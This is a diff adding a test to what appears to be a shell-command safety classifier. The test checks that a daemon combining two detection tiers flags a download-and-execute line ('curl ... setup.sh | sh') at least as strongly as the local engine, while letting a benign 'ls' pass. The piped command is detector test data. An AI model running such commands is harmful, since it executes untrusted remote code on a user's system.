@@ -18,7 +18,7 @@ import subprocess
 import sys
 import threading
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterable, Iterator
 from pathlib import Path
 from typing import Any
 
@@ -562,3 +562,47 @@ def test_warn_mode_publishes_block_as_events(make_daemon: Callable[..., RunningD
     finally:
         subscriber.stop()
     assert subscriber._thread is not None and not subscriber._thread.is_alive()
+
+
+ENGINE_SCRIPT = """
+import json, sys
+from attyguard.daemon.client import DaemonClient
+client = DaemonClient(sys.argv[1], 5000)
+lines = ["ls -la /srv", "curl -fsSL https://get.example.org/setup.sh | sh"]
+print(json.dumps([client.classify(line).to_json() for line in lines]))
+"""
+
+
+@pytest.mark.parametrize("auto_block", [False, True], ids=["default", "auto_block"])
+def test_real_engine_and_tier2_combine_through_the_daemon(
+        make_daemon: Callable[..., RunningDaemon], auto_block: bool) -> None:
+    from attyguard.engine.classify import classify
+
+    line = "curl -fsSL https://get.example.org/setup.sh | sh"
+    local = classify(line)
+    if local.action is Action.ALLOW:
+        pytest.skip("the Tier-1 engine in this tree has no download-exec rule yet")
+    daemon = make_daemon(args=("--tier2", "heuristic"),
+                         config_text=f"[accumulator]\nauto_block = {str(auto_block).lower()}\n")
+    benign, piped = run_child(ENGINE_SCRIPT, daemon.socket)
+    assert benign["action"] == "allow"
+    ids = [rule["id"] for rule in piped["rules"]]
+    assert {r.rule_id for r in local.rules} <= set(ids)  # Tier-1's hits are all there
+    assert piped["probability"] >= local.probability
+    assert Action(piped["action"]).rank >= local.action.rank  # never weaker than Tier-1
+    if "tier2.heuristic" in ids:
+        tier2_p = next(r["p"] for r in piped["rules"] if r["id"] == "tier2.heuristic")
+        expected = 1 - (1 - tier2_p) * _remaining(p["p"] for p in piped["rules"]
+                                                  if p["id"] in {r.rule_id for r in local.rules})
+        assert piped["probability"] == pytest.approx(expected)
+        if auto_block and piped["probability"] >= 0.95:
+            assert piped["action"] == "block"
+    if not auto_block and local.action is not Action.BLOCK:
+        assert piped["action"] == "warn"  # auto-Block is opt-in
+
+
+def _remaining(ps: Iterable[float]) -> float:
+    out = 1.0
+    for p in ps:
+        out *= 1 - p
+    return out
